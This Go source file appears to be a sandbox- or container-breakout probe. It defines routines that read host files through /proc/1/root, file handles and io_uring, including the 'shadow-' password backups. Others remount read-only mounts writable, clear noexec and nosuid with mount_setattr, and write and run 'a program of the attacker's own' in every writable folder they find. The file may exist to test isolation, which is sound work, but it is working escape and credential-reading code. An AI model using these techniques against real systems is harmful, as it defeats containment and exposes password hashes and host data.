package main

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
)

func environ([]string) error {
	fmt.Println(strings.Join(os.Environ(), "\n"))
	return nil
}

func environOfProc([]string) error {
	content, err := os.ReadFile("/proc/self/environ")
	fmt.Printf("%s\n", bytes.ReplaceAll(content, []byte{0}, []byte{'\n'}))
	return err
}

// readBy FILE…, in one way.
func readBy(way func(file string) ([]byte, error)) deed {
	return func(words []string) error {
		var last error
		for _, file := range words {
			content, err := way(file)
			os.Stdout.Write(content)
			last = err
		}
		return last
	}
}

func readInRoot(file string) ([]byte, error) { return os.ReadFile("/proc/1/root" + file) }
func readBackup(file string) ([]byte, error) { return os.ReadFile(file + "-") } // passwd- and shadow-, which shadow-utils keep

func readByHandle(file string) ([]byte, error) {
	opened, err := openByHandle(file)
	if err != nil {
		return nil, err
	}
	defer opened.Close()
	return io.ReadAll(io.LimitReader(opened, mostOutput))
}

func readByRing(file string) ([]byte, error) {
	ring, err := newRing()
	if err != nil {
		return nil, err
	}
	number, err := ring.do(opOpenAt, atCurrent, text(file), 0, 0, syscall.O_RDONLY|syscall.O_CLOEXEC)
	if err != nil {
		return nil, fmt.Errorf("openat: %w", err)
	}
	content := make([]byte, 1<<16)
	count, err := ring.do(opRead, number, given(content), uint32(len(content)), 0, 0)
	if err != nil {
		return nil, fmt.Errorf("read: %w", err)
	}
	return content[:count], nil
}

// A view lets a deed reach a file by another way, perhaps after it changed how the file system is mounted for this thread alone.
type view func(file string) (string, error)

func plainly(file string) (string, error) { return file, nil }
func inRoot(file string) (string, error)  { return "/proc/1/root" + file, nil }

// remounted makes the file system writable and its programs runnable again, in a mount namespace of its own.
func remounted(file string) (string, error) {
	if err := ownMounts(); err != nil {
		return "", err
	}
	if err := syscall.Mount("", mountOf(file), "", syscall.MS_REMOUNT|syscall.MS_BIND, ""); err != nil {
		return "", fmt.Errorf("mount: %w", err)
	}
	return file, nil
}

// changed does the same by mount_setattr(2).
func changed(file string) (string, error) {
	if err := ownMounts(); err != nil {
		return "", err
	}
	attributes := make([]byte, 32)
	binary.NativeEndian.PutUint64(attributes[8:], 1|2|8) // to be cleared: read-only, no set-user-ID, no programs
	if _, err := call(sysMountSetattr, atCurrent, text(mountOf(file)), 0, given(attributes), uintptr(len(attributes))); err != nil {
		return "", fmt.Errorf("mount_setattr: %w", err)
	}
	return file, nil
}

// mountOf is the mount point below which a file lies.
func mountOf(file string) string {
	best := "/"
	for _, point := range mountPoints() {
		if len(point) > len(best) && strings.HasPrefix(file, point+"/") {
			best = point
		}
	}
	return best
}

func mountPoints() []string {
	points := []string{}
	mounts, _ := os.ReadFile("/proc/self/mountinfo")
	for _, line := range strings.Split(string(mounts), "\n") {
		if fields := strings.Fields(line); len(fields) > 5 {
			points = append(points, fields[4])
		}
	}
	return points
}

// writeBy FILE A B
func writeBy(way view) deed {
	return func(words []string) error {
		file, err := way(words[0])
		if err != nil {
			return err
		}
		if err := os.WriteFile(file, []byte(words[1]+words[2]), 0o644); err != nil {
			return err
		}
		content, err := os.ReadFile(file)
		fmt.Printf("%s: %s\n", filepath.Dir(words[0]), content)
		return err
	}
}

// writeByRing FILE A B
func writeByRing(words []string) error {
	ring, err := newRing()
	if err != nil {
		return err
	}
	number, err := ring.do(opOpenAt, atCurrent, text(words[0]), 0o644, 0, syscall.O_CREAT|syscall.O_RDWR|syscall.O_CLOEXEC)
	if err != nil {
		return fmt.Errorf("openat: %w", err)
	}
	content := []byte(words[1] + words[2])
	if _, err := ring.do(opWrite, number, given(content), uint32(len(content)), 0, 0); err != nil {
		return fmt.Errorf("write: %w", err)
	}
	got, err := readByRing(words[0])
	fmt.Printf("%s: %s\n", filepath.Dir(words[0]), got)
	return err
}

// places are the folders in which something may be written: where file systems are mounted, and where programs usually write.
func places() []string {
	found, seen := []string{}, map[string]bool{}
	add := func(folder string) {
		info, err := os.Stat(folder)
		if errors.Is(err, os.ErrNotExist) || err == nil && !info.IsDir() || seen[folder] || folder == "/host" {
			return // one that may not be asked for is tried
		}
		seen[folder] = true
		found = append(found, folder)
	}
	for _, folder := range []string{"/tmp", "/var/tmp", "/dev/shm", "/run", "/var/run", "/run/lock", "/var/lock", "/var/cache", "/var/log", "/var/lib"} {
		add(folder)
	}
	homes, _ := filepath.Glob("/home/*")
	for _, folder := range append(homes, "/root", "/var/www", "/srv", "/opt", "/data") {
		add(folder)
	}
	if here, err := os.Getwd(); err == nil {
		add(here)
	}
	for _, point := range mountPoints() {
		if !strings.HasPrefix(point, "/proc") && !strings.HasPrefix(point, "/sys") {
			add(point)
		}
	}
	return found
}

// everywhere tries a deed in every place; one that works is enough.
func everywhere(name string, deed func(file string) error) error {
	last := errors.New("no folder")
	worked := false
	for _, folder := range places() {
		if err := deed(filepath.Join(folder, name)); err == nil {
			worked = true
		} else if !errors.Is(err, syscall.EROFS) {
			last = err
		}
	}
	if worked {
		return nil
	}
	return last
}

func writeAny(way view) deed {
	return func(words []string) error {
		return everywhere(words[0], func(file string) error {
			defer os.Remove(file)
			return writeBy(way)([]string{file, words[1], words[2]})
		})
	}
}

// runBy FILE A B: a program of the attacker's own, written and started there.
func runBy(way view, started func(file string, words ...string) ([]byte, error)) deed {
	return func(words []string) error {
		content, err := os.ReadFile(os.Args[0])
		if err != nil {
			return err
		}
		file, err := way(words[0])
		if err != nil {
			return err
		}
		if err := os.WriteFile(file, content, 0o755); err != nil {
			return err
		}
		defer os.Remove(file)
		output, err := started(file, "hello", words[1], words[2])
		if err == nil {
			fmt.Printf("%s: %s", filepath.Dir(words[0]), output)
		}
		return err
	}
}

func runAny(way view, started func(file string, words ...string) ([]byte, error)) deed {
	return func(words []string) error {
		return everywhere(words[0], func(file string) error { return runBy(way, started)([]string{file, words[1], words[2]}) })
	}
}

func start(file string, words ...string) ([]byte, error) {
	return exec.Command(file, words...).CombinedOutput()
}

// startByNumber: by an open file, not by its name.
func startByNumber(file string, words ...string) ([]byte, error) {
	opened, err := os.Open(file)
	if err != nil {
		return nil, err
	}
	defer opened.Close()
	return becoming(opened, words...)
}
